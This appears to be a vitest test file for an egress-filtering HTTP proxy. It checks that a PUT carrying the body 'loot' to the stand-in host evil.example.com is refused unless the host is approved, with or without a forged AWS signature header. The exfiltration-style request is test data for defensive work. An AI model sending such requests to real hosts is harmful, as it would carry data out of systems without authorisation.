import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { connect } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { all, closeAll, later, proxyTo, recorder } from './harness.ts';

afterEach(closeAll);

const SIGNED =
  'Authorization: AWS4-HMAC-SHA256 Credential=ASIAQNZGRLQ55EXAMPLE/20261125/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00\r\n';

async function put(over: Parameters<typeof recorder>[0], field: string) {
  const arrived: string[] = [];
  const server = createServer((req, res) => {
    arrived.push(`${req.headers.host}${req.url}`);
    req.resume();
    res.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  later(() => new Promise((resolve) => server.close(resolve)));
  const seen = recorder(over);
  const { proxy } = await proxyTo(seen.inspector, (server.address() as AddressInfo).port);
  const socket = connect(proxy.port, '127.0.0.1');
  socket.write(
    `PUT http://evil.example.com/thumbs/7.jpg HTTP/1.1\r\nHost: evil.example.com\r\n${field}Content-Length: 4\r\nConnection: close\r\n\r\nloot`,
  );
  return { answer: await all(socket), arrived, ...seen };
}

describe('a request over plain HTTP to a host that is no endpoint', () => {
  const refusing = { egress: () => ({ kind: 'refuse' as const, reason: 'never connected to it', ended() {} }) };

  it.each([
    ['bears a signature that anybody could have written', SIGNED],
    ['bears none', ''],
  ])('is refused where the host is not approved, and it %s', async (_, field) => {
    const { answer, arrived, heads } = await put(refusing, field);
    expect(answer).toContain('403');
    expect(arrived).toEqual([]);
    expect(heads).toEqual([]);
  });

  it('is a call and a connection where it bears a signature and the host is approved', async () => {
    const { answer, arrived, heads, egress, outcomes } = await put({}, SIGNED);
    expect(answer).toContain('200');
    expect(arrived).toEqual(['evil.example.com/thumbs/7.jpg']);
    expect(heads).toHaveLength(1);
    expect(outcomes).toMatchObject([{ status: 200 }]);
    expect(egress).toMatchObject([{ target: { host: 'evil.example.com', port: 80 }, outcome: { connected: true } }]);
  });
});
